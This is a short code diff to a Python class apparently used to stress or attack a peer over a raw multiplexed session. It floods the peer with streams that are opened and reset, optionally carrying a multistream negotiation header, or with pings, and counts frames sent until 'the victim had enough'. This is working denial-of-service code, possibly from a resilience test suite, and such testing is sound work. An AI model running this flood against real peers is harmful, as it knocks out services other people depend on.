@@ -141,7 +141,8 @@ class _Nobody:
 
 
 class Flood:
-    """Frames without end over one raw session: streams that are opened and reset, or pings."""
+    """Frames without end over one raw session: streams opened and reset (with the first words of a
+    negotiation in between, for "words"), or pings."""
 
     def __init__(self, session: Any, kind: str, per_second: float = math.inf) -> None:
         self._session = session
@@ -154,7 +155,10 @@ class Flood:
             return pack_header(PING, SYN, 0, 7) * count
         ids = range(self._next_id, self._next_id + 2 * count, 2)
         self._next_id += 2 * count
-        return b"".join(pack_header(DATA, SYN, i, 0) + pack_header(DATA, RST, i, 0) for i in ids)
+        words = b"\x13/multistream/1.0.0\n" if self._kind == "words" else b""
+        return b"".join(
+            pack_header(DATA, SYN, i, len(words)) + words + pack_header(DATA, RST, i, 0) for i in ids
+        )
 
     async def run(self, count: int) -> int:
         """How many were sent when the victim had enough, ``count`` at most."""
